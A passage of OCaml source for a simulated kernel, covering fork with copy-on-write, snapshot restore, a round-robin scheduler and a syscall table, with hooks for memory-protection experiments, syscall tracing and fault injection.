      let child_pte = clone_pte t pte in
      if pte.orig_writable then begin
        pte.writable <- false;
        pte.cow <- true;
        child_pte.writable <- false;
        child_pte.cow <- true
      end;
      Aspace.set_pte aspace child_pte);
  (* The parent's DTLB may cache stale writable mappings. *)
  Hw.Mmu.flush_tlbs t.mmu;
  let child = Proc.create ~pid ~name:(Fmt.str "%s.%d" parent.name pid) ~aspace in
  attach_proc_pipes t child;
  (* Inherit the parent's descriptor table (drop the fresh console fds). *)
  Proc.close_all_fds child;
  Hashtbl.iter
    (fun n obj ->
      (match obj with
      | Proc.Read_end pipe -> Pipe.add_reader pipe
      | Proc.Write_end pipe -> Pipe.add_writer pipe);
      Hashtbl.replace child.fds n obj)
    parent.fds;
  child.next_fd <- parent.next_fd;
  child.protected_ <- parent.protected_;
  child.sebek_active <- parent.sebek_active;
  child.recovery_handler <- parent.recovery_handler;
  Array.blit parent.regs.gpr 0 child.regs.gpr 0 8;
  child.regs.eip <- parent.regs.eip;
  child.regs.zf <- parent.regs.zf;
  child.regs.sf <- parent.regs.sf;
  child.regs.tf <- false;
  Hw.Cpu.set child.regs Isa.Reg.EAX 0;
  child.parent <- Some parent.pid;
  Hashtbl.replace t.procs pid child;
  (* pids are monotonic, so appending keeps the index ascending *)
  let siblings = Option.value (Hashtbl.find_opt t.children_index parent.pid) ~default:[] in
  Hashtbl.replace t.children_index parent.pid (siblings @ [ pid ]);
  enqueue t child;
  pid

(* ------------------------------------------------------------------ *)
(* Misc services shared by the syscall and trap layers                 *)
(* ------------------------------------------------------------------ *)

let sebek_trace t (p : Proc.t) name info =
  if p.sebek_active then Event_log.add t.log (Syscall_traced { pid = p.pid; name; info })

let preview s =
  let clean =
    String.map (fun c -> if Char.code c >= 32 && Char.code c < 127 then c else '.') s
  in
  if String.length clean > 40 then String.sub clean 0 40 ^ "..." else clean

let block t (p : Proc.t) cond =
  (* Rewind over [int 0x80] so the syscall re-executes on wake-up. *)
  p.regs.eip <- p.regs.eip - 2;
  p.state <- Blocked cond;
  register_wait t p cond

let load_pagetables t (p : Proc.t) =
  if t.protection.dual_pagetables then
    Hw.Mmu.reload_cr3_dual t.mmu
      ~code:(Aspace.walk_code_view p.aspace)
      ~data:(Aspace.walk_data_view p.aspace)
  else Hw.Mmu.reload_cr3 t.mmu (Aspace.walk p.aspace)

(* ------------------------------------------------------------------ *)
(* Snapshot support: raw registry exposure                             *)
(* ------------------------------------------------------------------ *)

let libraries t =
  Hashtbl.fold (fun name lib acc -> (name, lib) :: acc) t.libraries []
  |> List.sort (fun (a, _) (b, _) -> compare a b)

let restore_libraries t libs =
  Hashtbl.reset t.libraries;
  List.iter (fun (name, lib) -> Hashtbl.replace t.libraries name lib) libs

let replace_procs t ps =
  Hashtbl.reset t.procs;
  List.iter (fun (p : Proc.t) -> Hashtbl.replace t.procs p.pid p) ps;
  (* Re-derive every index the live machine maintains incrementally. *)
  Hashtbl.reset t.children_index;
  List.iter
    (fun (p : Proc.t) ->
      match p.parent with
      | Some pp ->
        let siblings = Option.value (Hashtbl.find_opt t.children_index pp) ~default:[] in
        Hashtbl.replace t.children_index pp (siblings @ [ p.pid ])
      | None -> ())
    ps;
  Hashtbl.iter
    (fun pp cs -> Hashtbl.replace t.children_index pp (List.sort compare cs))
    (Hashtbl.copy t.children_index);
  (* Restored pipes carry no waiter registrations, so seed the pending list
     with every blocked pid: the first wake rechecks them all (exactly the
     seed's scan) and re-registers the still-blocked ones on their pipes. *)
  List.iter (fun (p : Proc.t) -> attach_proc_pipes t p) ps;
  (* The sleeper queue is re-derived the same way: the recheck of a pid
     still blocked on [Sleep] re-inserts it (register_wait), and the
     sorted insert reproduces the canonical order. *)
  t.sleepers <- [];
  t.pending_wakeups <- [];
  List.iter
    (fun (p : Proc.t) ->
      match p.state with Proc.Blocked _ -> t.wakeup_sink p.pid | _ -> ())
    ps

(* Re-derive the shared-frame registry after a snapshot restore. The
   registry is perf-only state and is not serialized, but replay
   determinism still requires a restored machine to share exactly as the
   original did — frame-pool pressure is observable through OOM kills.
   Share keys are content digests of the serialized region source, so this
   walk reconstructs the registry from the regions alone: under
   [share_images], every non-split PTE of a read-only image-backed region
   came from the share path, and all its sharers hold the same frame.
   (A region mprotect-ed writable is excluded — its restored PTEs were
   privatized before the snapshot.) *)
let rebuild_shares t =
  if t.share_images then begin
    (* The shared frame of a key is held as [pte.frame] by unsplit sharers
       and lives on as the split structure's code frame after a page
       splits, so collect code-frame votes across every holder and
       register the majority frame (ties break to the lowest frame — only
       reachable when a Forensics privatization left a lone dissenting
       copy, where either pick keeps replay deterministic). *)
    let votes : (string, (int, int) Hashtbl.t) Hashtbl.t = Hashtbl.create 64 in
    List.iter
      (fun (p : Proc.t) ->
        List.iter
          (fun (r : Aspace.region) ->
            match r.source with
            | Aspace.Image_bytes { base; bytes } when not r.writable ->
              let key = share_key ~base ~bytes in
              r.share <- Some key;
              for vpn = r.lo to r.hi - 1 do
                match Aspace.pte p.aspace vpn with
                | Some pte ->
                  let frame = Pte.code_frame pte in
                  let k = key ^ "/" ^ string_of_int vpn in
                  let tbl =
                    match Hashtbl.find_opt votes k with
                    | Some tbl -> tbl
                    | None ->
                      let tbl = Hashtbl.create 4 in
                      Hashtbl.replace votes k tbl;
                      tbl
                  in
                  Hashtbl.replace tbl frame
                    (1 + Option.value (Hashtbl.find_opt tbl frame) ~default:0)
                | None -> ()
              done
            | Aspace.Image_bytes _ | Aspace.Zero -> ())
          (Aspace.regions p.aspace))
      (procs t);
    Hashtbl.iter
      (fun k tbl ->
        let frame, _ =
          Hashtbl.fold
            (fun f n (bf, bn) ->
              if n > bn || (n = bn && f < bf) then (f, n) else (bf, bn))
            tbl (max_int, 0)
        in
        Frame_alloc.register_share t.alloc ~key:k ~frame)
      votes
  end
