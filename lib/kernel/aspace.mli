(** Per-process address space: the pagetable plus the region map that
    drives demand paging. *)

type source =
  | Zero  (** anonymous zero-fill (bss, heap, stack, mmap) *)
  | Image_bytes of { base : int; bytes : string }  (** file-backed segment *)

type region = {
  lo : int;  (** first vpn (inclusive) *)
  mutable hi : int;  (** last vpn (exclusive); mutable for brk/mprotect *)
  kind : Pte.kind;
  mutable writable : bool;
  mutable execable : bool;
  source : source;
  mutable share : string option;
      (** backing-segment content digest when read-only pages of this
          region may join the shared-frame registry (loader COW). Derived
          perf-only state — never serialized; recomputed from the region
          source by [Machine.rebuild_shares] after a restore. *)
}

type t = {
  page_size : int;
  ptes : (int, Pte.t) Hashtbl.t;
  mutable regions : region list;
  mutable brk : int;
  mutable mmap_cursor : int;
}

val create : page_size:int -> t
val page_size : t -> int
val add_region : t -> region -> unit
val regions : t -> region list
val find_region : t -> int -> region option
val pte : t -> int -> Pte.t option
val set_pte : t -> Pte.t -> unit
val remove_pte : t -> int -> unit
val iter_ptes : t -> (Pte.t -> unit) -> unit
val mapped_count : t -> int

val walk : t -> int -> Hw.Mmu.hw_pte option
(** The hardware page-walk view of this address space (feed to
    {!Hw.Mmu.reload_cr3}). *)

val walk_code_view : t -> int -> Hw.Mmu.hw_pte option
(** §3.3.1 dual-pagetable hardware: the CR3-C view — split pages resolve
    to their code copy, unrestricted. *)

val walk_data_view : t -> int -> Hw.Mmu.hw_pte option
(** The CR3-D view — split pages resolve to their data copy. *)

val page_content : t -> region -> int -> string
(** Initial contents for demand-mapping [vpn] of [region]. *)

val blit_page_content : t -> region -> int -> Bytes.t -> unit
(** Allocation-free variant: write the initial contents of [vpn] into the
    first [page_size] bytes of a caller-owned scratch buffer. *)

val vpn_of_addr : t -> int -> int
val page_base : t -> int -> int
