(* The scheduler layer: round-robin run loop, quantum accounting, timer
   ticks, fuel handling, and the raw scheduler-state export consumed by
   lib/snap. Traps raised by the running process are handed to
   [Trap.deliver]; everything else here is pure CPU-time bookkeeping. *)

module M = Machine

type stop_reason = All_exited | All_blocked | Fuel_exhausted

(* The seed's wait-condition recheck, shared verbatim by both wake
   implementations — equivalence of the two rests on this being the one
   definition of "ready". *)
let ready (m : M.t) (p : Proc.t) cond =
  match cond with
  | Proc.Read_fd fd -> (
    match Proc.fd p fd with
    | Some (Read_end pipe) -> not (Pipe.is_empty pipe) || not (Pipe.has_writers pipe)
    | Some (Write_end _) | None -> true)
  | Proc.Write_fd fd -> (
    match Proc.fd p fd with
    | Some (Write_end pipe) -> Pipe.space pipe > 0 || not (Pipe.has_readers pipe)
    | Some (Read_end _) | None -> true)
  | Proc.Child target ->
    let children =
      List.filter (fun (c : Proc.t) -> target = 0 || c.pid = target) (M.children_of m p)
    in
    children = [] || List.exists Proc.is_zombie children
  | Proc.Sleep until_ -> m.cost.cycles >= until_

(* Event-driven wake: drain the pending-wakeup list the pipes and the
   zombie transition fed since the last boundary, recheck each candidate
   in ascending pid order (the same order the scan visited them), and
   requeue the ready ones. A pending pid whose condition still does not
   hold is re-registered on its pipe, so the next state flip pends it
   again. O(woken), independent of the process count. *)
let wake (m : M.t) =
  match m.pending_wakeups with
  | [] -> ()
  | pending ->
    m.pending_wakeups <- [];
    List.iter
      (fun pid ->
        match M.proc m pid with
        | Some p -> (
          match p.state with
          | Proc.Blocked cond ->
            if ready m p cond then begin
              p.state <- Proc.Runnable;
              M.enqueue m p
            end
            else M.register_wait m p cond
          | Proc.Runnable | Proc.Zombie _ -> ())
        | None -> ())
      (List.sort_uniq compare pending)

(* The seed's scan-everything wake, kept as the reference implementation
   for the equivalence harness (test/test_wake_equiv.ml). Clears the
   pending list too, so the two modes never mix. *)
let wake_scan (m : M.t) =
  m.pending_wakeups <- [];
  List.iter
    (fun (p : Proc.t) ->
      match p.state with
      | Proc.Blocked cond ->
        if ready m p cond then begin
          p.state <- Proc.Runnable;
          M.enqueue m p
        end
      | Proc.Runnable | Proc.Zombie _ -> ())
    (M.procs m)

let rec dequeue_runnable (m : M.t) =
  match Queue.take_opt m.runq with
  | None -> None
  | Some pid -> (
    match M.proc m pid with
    | Some p ->
      p.in_runq <- false;
      if Proc.is_runnable p then Some p else dequeue_runnable m
    | None -> dequeue_runnable m)

let all_zombie (m : M.t) =
  Hashtbl.fold (fun _ p acc -> acc && Proc.is_zombie p) m.procs true

let switch_to (m : M.t) (p : Proc.t) =
  if m.last_running <> Some p.pid then begin
    Hw.Cost.charge_ctx_switch m.cost;
    M.load_pagetables m p;
    m.last_running <- Some p.pid;
    (match m.switch_hook with Some f -> f p | None -> ());
    if Obs.enabled m.obs then
      Obs.event m.obs ~cat:"os" "os.ctx_switch" ~args:[ ("pid", Obs.Json.Int p.pid) ]
  end

(* The timer interrupt: charges the trap, and every [daemon_period]-th tick
   a background task (kflushd, a logging daemon...) actually runs, which is
   a real context switch and flushes both TLBs. This is the background
   activity that keeps split pages re-faulting even in single-process
   workloads, as on the paper's testbed. *)
let timer_tick (m : M.t) =
  if m.cost.cycles >= m.next_tick then begin
    Hw.Cost.charge_trap m.cost;
    m.ticks <- m.ticks + 1;
    if m.cost.params.daemon_period > 0 && m.ticks mod m.cost.params.daemon_period = 0
    then begin
      Hw.Cost.charge_ctx_switch m.cost;
      Hw.Mmu.flush_tlbs m.mmu
    end;
    m.next_tick <- m.cost.cycles + m.cost.params.timer_tick_cycles
  end

let run_quantum ?table (m : M.t) (p : Proc.t) fuel =
  (* Arm the control-transfer monitor for this quantum. The closure (and
     the protection context it captures) is built once per quantum, not per
     step, and not at all for non-CFI protections — the common step loop
     stays allocation-free. *)
  let ctrl =
    match m.protection.ctrl_monitor with
    | Some mon when p.protected_ ->
      let ctx = M.ctx m in
      Some (fun ~kind ~site ~target ~ret -> mon ctx p ~kind ~site ~target ~ret)
    | Some _ | None -> None
  in
  (* Arm the dispatch environment for this quantum: field writes only. *)
  m.env.Hw.Exec_env.ctrl <- ctrl;
  m.env.Hw.Exec_env.retire <- p.on_retire;
  (* Block dispatch is gated back to the per-instruction interpreter when
     something needs to observe individual steps or byte fetches: a TLB
     integrity guard must see every cached-entry hit (lib/inject), and ECC
     scrubbing gives every physical read a side effect (lib/inject DRAM
     campaigns). The trap flag (Algorithm 2's single-step window) is
     checked per iteration below — a trap handler can set it mid-quantum. *)
  let block_ok =
    m.bbcache <> None
    && (not (Hw.Mmu.has_tlb_guard m.mmu))
    && not (Hw.Phys.ecc_enabled m.phys)
  in
  let insns0 = m.cost.insns in
  let steps = ref m.quantum in
  while Proc.is_runnable p && !steps > 0 && !fuel > 0 do
    timer_tick m;
    if block_ok && not p.regs.tf then begin
      let max_insns = min !steps !fuel in
      let br = Hw.Cpu.run_block m.env m.mmu p.regs ~max_insns ~tick_limit:m.next_tick in
      steps := !steps - br.attempts;
      fuel := !fuel - br.attempts;
      (* flush the batched retire accounting before any trap delivery: a
         trap handler may read the counters *)
      m.cost.insns <- m.cost.insns + br.retired;
      (match m.hot with
      | None -> ()
      | Some h -> Obs.Metrics.incr ~by:br.retired h.h_retired);
      match br.pending with None -> () | Some r -> Trap.deliver ?table m p r
    end
    else begin
      decr steps;
      decr fuel;
      let eip_before = p.regs.eip in
      let r = Hw.Cpu.step ?ctrl m.mmu p.regs in
      (match r.outcome with Ok _ -> Proc.record_trace p eip_before | Error _ -> ());
      Trap.deliver ?table m p r
    end
  done;
  p.p_insns <- p.p_insns + (m.cost.insns - insns0);
  if Proc.is_runnable p then M.enqueue m p

let wake_for scan = if scan then wake_scan else wake

let run ?(fuel = 50_000_000) ?(wake_scan = false) ?table (m : M.t) =
  let fuel = ref fuel in
  let do_wake = wake_for wake_scan in
  let rec loop () =
    M.expire_sleepers m;
    do_wake m;
    (* quantum-boundary hook: the machine is in a consistent, resumable
       state here (no quantum in flight), which is exactly where periodic
       checkpointing must sample it *)
    (match m.sched_hook with Some f -> f () | None -> ());
    (* fault injection fires at the same quiescent points, after any
       checkpointing hook has sampled the pre-fault state *)
    (match m.inject_hook with Some f -> f () | None -> ());
    if !fuel <= 0 then Fuel_exhausted
    else
      match dequeue_runnable m with
      | None ->
        if all_zombie m then All_exited
        else (
          (* Tickless idle: nothing is runnable but a deadline is
             pending, so jump the clock straight to the earliest wake-up
             instead of spinning — this is what lets closed-loop serving
             clients "think" without burning simulated CPU. The next
             iteration expires the sleeper and runs it. *)
          match M.earliest_sleeper m with
          | Some until_ ->
            if until_ > m.cost.cycles then
              Hw.Cost.charge m.cost (until_ - m.cost.cycles);
            loop ()
          | None -> All_blocked)
      | Some p ->
        switch_to m p;
        run_quantum ?table m p fuel;
        loop ()
  in
  loop ()

(* ------------------------------------------------------------------ *)
(* Snapshot support: raw scheduler/system state exposure               *)
(* ------------------------------------------------------------------ *)

type state = {
  s_runq : int list;  (* front of the queue first *)
  s_rng : Random.State.t;
  s_last_running : int option;
  s_next_pid : int;
  s_next_tick : int;
  s_ticks : int;
  s_lib_cursor : int;
}

let state (m : M.t) =
  {
    s_runq = List.of_seq (Queue.to_seq m.runq);
    s_rng = Random.State.copy m.rng;
    s_last_running = m.last_running;
    s_next_pid = m.next_pid;
    s_next_tick = m.next_tick;
    s_ticks = m.ticks;
    s_lib_cursor = m.lib_cursor;
  }

let restore (m : M.t) (s : state) =
  Queue.clear m.runq;
  List.iter
    (fun pid ->
      (match M.proc m pid with Some p -> p.in_runq <- true | None -> ());
      Queue.add pid m.runq)
    s.s_runq;
  m.rng <- Random.State.copy s.s_rng;
  m.last_running <- s.s_last_running;
  m.next_pid <- s.s_next_pid;
  m.next_tick <- s.s_next_tick;
  m.ticks <- s.s_ticks;
  m.lib_cursor <- s.s_lib_cursor
