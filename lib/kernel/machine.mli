(** The kernel's state layer: the machine record plus the memory/process
    services the other kernel layers ({!Syscalls}, {!Trap}, {!Sched})
    build on. {!Os} composes all of them behind the stable public facade —
    kernel clients should use {!Os}; this interface is for the kernel's
    own layers, for [lib/snap], and for tools that need to reach a
    specific layer directly.

    The record type is deliberately concrete: the layers above are part of
    the kernel and manipulate scheduler bookkeeping (run queue, tick
    state) in place. *)

exception Rejected_image of string
exception Efault

type library = { lib_base : int; code : string; lib_signature : int }

type syscall_outcome =
  | Returned of int  (** handler returned; payload is EAX, sign-extended *)
  | Blocked  (** the process blocked; the syscall will re-execute *)
  | Exited  (** the process terminated during the call *)

type syscall_trace = {
  sys_number : int;
  sys_name : string;
  sys_pid : int;
  sys_args : int * int * int;  (** ebx, ecx, edx at entry *)
  sys_outcome : syscall_outcome;
  sys_cycles : int;  (** service cycles, entry to return *)
}
(** One record per dispatched syscall, delivered to the installed tracer
    (see {!Syscalls.dispatch} and simctl's [--strace]). *)

type hot = {
  h_retired : Obs.Metrics.counter;
  h_syscalls : Obs.Metrics.counter;
  h_faults : Obs.Metrics.counter;
  h_fault_cycles : Obs.Metrics.histogram;
  h_syscall_cycles : Obs.Metrics.histogram;
  h_faults_by_page : Obs.Metrics.labeled;
  h_faults_by_pid : Obs.Metrics.labeled;
  h_sys_by_name : Obs.Metrics.labeled;
  h_sys_by_pid : Obs.Metrics.labeled;
  h_traps_by_class : Obs.Metrics.labeled;
}
(** Pre-resolved metric instruments for the scheduler/trap hot paths
    ([None] on the machine when observability is disabled). *)

type t = {
  phys : Hw.Phys.t;
  alloc : Frame_alloc.t;
  mmu : Hw.Mmu.t;
  env : Hw.Exec_env.t;
      (** the CPU dispatch hooks record ([= Hw.Mmu.env mmu]), armed by the
          scheduler each quantum *)
  bbcache : Hw.Bbcache.t option;
      (** decoded basic-block cache; [None] = per-instruction dispatch *)
  cost : Hw.Cost.t;
  log : Event_log.t;
  protection : Protection.t;
  procs : (int, Proc.t) Hashtbl.t;
  children_index : (int, int list) Hashtbl.t;
      (** parent pid -> live child pids, ascending — [children_of] is
          O(children). Maintained by fork/{!reap}; rebuilt by
          {!replace_procs} *)
  mutable pending_wakeups : int list;
      (** pids whose blocking condition may have flipped since the last
          scheduler boundary (pipe activity, zombie transitions); drained
          and rechecked by [Sched.wake]. Duplicates and stale pids are
          fine — the recheck filters *)
  mutable wakeup_sink : int -> unit;
      (** the one shared closure pushing onto [pending_wakeups]; attached
          to every pipe the machine owns via {!attach_pipe} *)
  mutable sleepers : (int * int) list;
      (** processes blocked on [Proc.Sleep], as (wake_cycle, pid) sorted
          ascending; see {!expire_sleepers} and {!earliest_sleeper}.
          Stale entries are dropped lazily; not serialized — restore
          re-derives it through the {!replace_procs} wake seeding *)
  share_images : bool;
      (** loader COW: share read-only image-backed frames across spawns of
          identical guests (default off — opt-in for scale runs, so
          existing scenarios keep their exact frame trajectories) *)
  mutable image_memo : (Image.t * (bool * (int * string) list)) list;
      (** per-image (verify result, per-read-only-segment share keys by
          base), memoized by physical equality so spawn cost is
          independent of image size *)
  libraries : (string, library) Hashtbl.t;
  mutable lib_cursor : int;
  runq : int Queue.t;
  mutable rng : Random.State.t;
  page_size : int;
  quantum : int;
  stack_jitter_pages : int;
  verify_signatures : bool;
  mutable last_running : int option;
  mutable next_pid : int;
  mutable next_tick : int;
  mutable ticks : int;
  obs : Obs.t;
  hot : hot option;
  scratch : Bytes.t;
  mutable sched_hook : (unit -> unit) option;
  mutable syscall_tracer : (syscall_trace -> unit) option;
  mutable inject_hook : (unit -> unit) option;
      (** fault-injection callback fired at every scheduler-loop boundary,
          right after [sched_hook] (lib/inject) *)
  mutable syscall_squeeze : (Proc.t -> int -> bool) option;
      (** consulted before each syscall dispatch; [true] = fail this
          dispatch transiently and restart the syscall (lib/inject) *)
  mutable switch_hook : (Proc.t -> unit) option;
      (** fired in [Sched.switch_to] when the running process changes,
          with the incoming process — pid attribution for address
          sampling (lib/prof) *)
}

val create :
  ?frames:int ->
  ?page_size:int ->
  ?quantum:int ->
  ?cost_params:Hw.Cost.params ->
  ?itlb_capacity:int ->
  ?dtlb_capacity:int ->
  ?tlb_policy:Hw.Tlb.policy ->
  ?stack_jitter_pages:int ->
  ?verify_signatures:bool ->
  ?seed:int ->
  ?tlb_fill:Hw.Mmu.fill_mode ->
  ?caches:bool ->
  ?obs:Obs.t ->
  ?bbcache:bool ->
  ?share_images:bool ->
  protection:Protection.t ->
  unit ->
  t
(** [bbcache] enables the decoded basic-block cache (default
    {!bbcache_default}); dispatch stays observationally identical either
    way — the cache only changes wall-clock speed. *)

val bbcache_default : bool ref
(** Process-wide default for [create]'s [?bbcache] ([true]). CLI tools set
    this [false] (before building any machine) for [--no-bbcache]
    differential runs. *)

val ctx : t -> Protection.ctx
val proc : t -> int -> Proc.t option

val procs : t -> Proc.t list
(** pid-sorted, for deterministic traversal. *)

val register_library : t -> string -> Isa.Asm.program -> int
val tamper_library : t -> string -> unit
val children_of : t -> Proc.t -> Proc.t list
(** O(children) via the index; pid-ascending. *)

val enqueue : t -> Proc.t -> unit
(** Queue for execution; a no-op when the process is already queued
    ([Proc.in_runq]). *)

val reap : t -> Proc.t -> unit
(** Remove a waited-on zombie from the process table and the children
    index (both as a child and as a parent). *)

val attach_pipe : t -> Pipe.t -> unit
(** Point the pipe's wakeup sink at this machine's pending list. Every
    pipe a machine owns must be attached at creation (spawn, fork, connect,
    sys_pipe, snapshot restore) or blocked waiters on it would sleep
    forever. *)

val attach_proc_pipes : t -> Proc.t -> unit
(** {!attach_pipe} on the consoles and every fd-held pipe end. *)

val register_wait : t -> Proc.t -> Proc.wait_cond -> unit
(** Register a blocked process where its condition can flip: the pipe
    behind the fd for I/O waits (missing/mismatched fds go straight to the
    pending list — they are ready by definition); the sleeper queue for
    [Sleep] waits; nothing for child waits, which {!terminate}'s zombie
    transition notifies directly. *)

val expire_sleepers : t -> unit
(** Pop every sleeper whose deadline has passed onto the pending-wakeup
    list; called at each scheduler boundary. *)

val earliest_sleeper : t -> int option
(** Earliest genuine sleeper deadline (dropping stale head entries);
    [None] when nobody is sleeping. Drives the scheduler's tickless idle
    jump when the run queue is empty. *)

val map_demand_page : t -> Proc.t -> Aspace.region -> int -> Pte.t
val cow_service : t -> Pte.t -> unit

val ensure_mapped_for_kernel : t -> Proc.t -> int -> write:bool -> Pte.t
(** @raise Efault on an unmapped or forbidden guest page. *)

val copy_from_user : t -> Proc.t -> int -> int -> string
val copy_to_user : t -> Proc.t -> int -> string -> unit
val read_cstring : t -> Proc.t -> int -> max:int -> string

val terminate : t -> Proc.t -> Proc.exit_status -> unit
val kill : t -> Proc.t -> Proc.signal -> unit

val oom_kill : t -> Proc.t -> unit
(** Allocator exhaustion containment: log a [Fault_detected] (kind ["oom"])
    and SIGKILL the process — graceful degradation instead of a machine
    crash when {!Frame_alloc.Out_of_frames} reaches a trap or syscall
    boundary. *)

val spawn : t -> ?eager:bool -> ?protected:bool -> ?name:string -> Image.t -> Proc.t

val feed_stdin : t -> Proc.t -> string -> int
val close_stdin : t -> Proc.t -> unit
val read_stdout : t -> Proc.t -> string
val connect : ?capacity:int -> t -> Proc.t -> Proc.t -> unit

val do_fork : t -> Proc.t -> int
(** Fork [parent]; returns the child pid. *)

val sebek_trace : t -> Proc.t -> string -> string -> unit
(** Covert per-syscall logging when the process is sebek-tagged. *)

val preview : string -> string
(** Printable, truncated preview of guest bytes for log lines. *)

val block : t -> Proc.t -> Proc.wait_cond -> unit
(** Block the process, rewind EIP over [int 0x80] so the syscall
    re-executes on wake-up, and {!register_wait} it. *)

val load_pagetables : t -> Proc.t -> unit

val libraries : t -> (string * library) list
(** Registered dynamic libraries, sorted by name. *)

val restore_libraries : t -> (string * library) list -> unit

val replace_procs : t -> Proc.t list -> unit
(** Replace the whole process table (snapshot restore). Does not touch
    the run queue. Re-derives the children index, re-attaches every pipe's
    wakeup sink, and seeds the pending list with all blocked pids so the
    first wake rechecks them (restored pipes carry no waiter lists). *)

val rebuild_shares : t -> unit
(** Re-derive the shared-frame registry and the regions' share keys from
    the restored process table (the registry is perf-only state and is
    never serialized). Call after {!replace_procs} and the allocator
    import; no-op unless [share_images]. *)
