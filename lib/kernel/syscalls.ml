(* The syscall layer: a declarative table (number -> {name; handler})
   replacing the monolithic dispatch match the kernel grew up with.
   Handlers are registered data — adding a syscall touches nothing but the
   table — and every dispatch is traceable per-entry through the machine's
   [syscall_tracer] (simctl --strace). *)

module M = Machine

type handler = M.t -> Proc.t -> unit

type entry = { name : string; handler : handler }

type table = { entries : (int, entry) Hashtbl.t }

let create () = { entries = Hashtbl.create 32 }

let register t n ~name handler = Hashtbl.replace t.entries n { name; handler }

let find t n = Hashtbl.find_opt t.entries n

let name t n = match find t n with Some e -> e.name | None -> Fmt.str "sys_%d" n

let numbers t = Hashtbl.fold (fun n _ acc -> n :: acc) t.entries [] |> List.sort compare

(* ------------------------------------------------------------------ *)
(* Handlers                                                            *)
(* ------------------------------------------------------------------ *)

let arg (p : Proc.t) r = Hw.Cpu.get p.regs r
let ret (p : Proc.t) v = Hw.Cpu.set p.regs Isa.Reg.EAX v

(* exit(status) *)
let sys_exit (m : M.t) p =
  let ebx = arg p Isa.Reg.EBX in
  M.sebek_trace m p "exit" (string_of_int ebx);
  M.terminate m p (Proc.Exited (ebx land 0xFF))

(* fork() *)
let sys_fork (m : M.t) p =
  let child = M.do_fork m p in
  M.sebek_trace m p "fork" (Fmt.str "-> %d" child);
  ret p child

(* read(fd, buf, len) *)
let sys_read (m : M.t) (p : Proc.t) =
  let fd = arg p Isa.Reg.EBX and buf = arg p Isa.Reg.ECX and len = arg p Isa.Reg.EDX in
  match Proc.fd p fd with
  | Some (Read_end pipe) ->
    if not (Pipe.is_empty pipe) then begin
      let s = Pipe.read pipe ~max:len in
      M.copy_to_user m p buf s;
      M.sebek_trace m p "read" (Fmt.str "fd=%d %S" fd (M.preview s));
      ret p (String.length s)
    end
    else if Pipe.has_writers pipe then M.block m p (Proc.Read_fd fd)
    else ret p 0
  | Some (Write_end _) | None -> ret p (-9)

(* write(fd, buf, len) *)
let sys_write (m : M.t) (p : Proc.t) =
  let fd = arg p Isa.Reg.EBX and buf = arg p Isa.Reg.ECX and len = arg p Isa.Reg.EDX in
  match Proc.fd p fd with
  | Some (Write_end pipe) ->
    if not (Pipe.has_readers pipe) then M.kill m p Proc.Sigpipe
    else if Pipe.space pipe = 0 then M.block m p (Proc.Write_fd fd)
    else begin
      let chunk = min len (Pipe.space pipe) in
      let s = M.copy_from_user m p buf chunk in
      let written = Pipe.write pipe s in
      Hw.Cost.charge m.cost (written * m.cost.params.io_byte);
      M.sebek_trace m p "write" (Fmt.str "fd=%d %S" fd (M.preview s));
      ret p written
    end
  | Some (Read_end _) | None -> ret p (-9)

(* close(fd) *)
let sys_close (_m : M.t) p = ret p (if Proc.close_fd p (arg p Isa.Reg.EBX) then 0 else -9)

(* waitpid(pid) — 0 waits for any child *)
let sys_waitpid (m : M.t) p =
  let target = arg p Isa.Reg.EBX in
  let children =
    List.filter (fun (c : Proc.t) -> target = 0 || c.pid = target) (M.children_of m p)
  in
  match children with
  | [] -> ret p (-10)
  | _ -> (
    match List.find_opt Proc.is_zombie children with
    | Some z ->
      M.reap m z;
      M.sebek_trace m p "waitpid" (Fmt.str "-> %d" z.pid);
      ret p z.pid
    | None -> M.block m p (Proc.Child target))

(* execve(path) — in this model: log the spawn and continue *)
let sys_execve (m : M.t) (p : Proc.t) =
  let path = M.read_cstring m p (arg p Isa.Reg.EBX) ~max:64 in
  Event_log.add m.log (Exec_shell { pid = p.pid; path });
  M.sebek_trace m p "execve" (Fmt.str "%S" path);
  ret p 0

(* time() — cycle counter *)
let sys_time (m : M.t) p = ret p (m.cost.cycles land 0x3FFFFFFF)

let sys_getpid (_m : M.t) (p : Proc.t) = ret p p.pid

(* pipe(fds_ptr) *)
let sys_pipe (m : M.t) (p : Proc.t) =
  let pipe = Pipe.create ~name:(Fmt.str "pipe.%d" p.pid) () in
  M.attach_pipe m pipe;
  let rfd = Proc.install_fd p (Read_end pipe) in
  let wfd = Proc.install_fd p (Write_end pipe) in
  let addr = arg p Isa.Reg.EBX in
  let word v = String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xFF)) in
  M.copy_to_user m p addr (word rfd ^ word wfd);
  ret p 0

(* brk(addr) *)
let sys_brk (_m : M.t) (p : Proc.t) =
  let requested = arg p Isa.Reg.EBX in
  if requested = 0 then ret p p.aspace.brk
  else if requested >= Layout.heap_base && requested < Layout.heap_limit then begin
    p.aspace.brk <- requested;
    ret p requested
  end
  else ret p (-12)

(* sigrecover(handler): register an attack-recovery callback *)
let sys_sigrecover (m : M.t) (p : Proc.t) =
  let ebx = arg p Isa.Reg.EBX in
  p.recovery_handler <- (if ebx = 0 then None else Some ebx);
  M.sebek_trace m p "sigrecover" (Fmt.str "0x%08x" ebx);
  ret p 0

(* mmap(len, prot) *)
let sys_mmap (m : M.t) (p : Proc.t) =
  let len = arg p Isa.Reg.EBX and prot = arg p Isa.Reg.ECX in
  let pages = (len + m.page_size - 1) / m.page_size in
  let base = p.aspace.mmap_cursor in
  if base + ((pages + 1) * m.page_size) > Layout.mmap_limit then ret p (-12)
  else begin
    Aspace.add_region p.aspace
      {
        lo = base / m.page_size;
        hi = (base / m.page_size) + pages;
        kind = Pte.Mmap;
        writable = prot land 2 <> 0;
        execable = prot land 4 <> 0;
        source = Zero;
        share = None;
      };
    p.aspace.mmap_cursor <- base + ((pages + 1) * m.page_size);
    M.sebek_trace m p "mmap" (Fmt.str "len=%d prot=%d -> 0x%08x" len prot base);
    ret p base
  end

(* mprotect(addr, len, prot) *)
let sys_mprotect (m : M.t) (p : Proc.t) =
  let addr = arg p Isa.Reg.EBX and len = arg p Isa.Reg.ECX and prot = arg p Isa.Reg.EDX in
  let lo = addr / m.page_size in
  let hi = (addr + len + m.page_size - 1) / m.page_size in
  let writable = prot land 2 <> 0 and execable = prot land 4 <> 0 in
  List.iter
    (fun (r : Aspace.region) ->
      if r.lo < hi && r.hi > lo then begin
        r.writable <- writable;
        r.execable <- execable
      end)
    (Aspace.regions p.aspace);
  for vpn = lo to hi - 1 do
    match Aspace.pte p.aspace vpn with
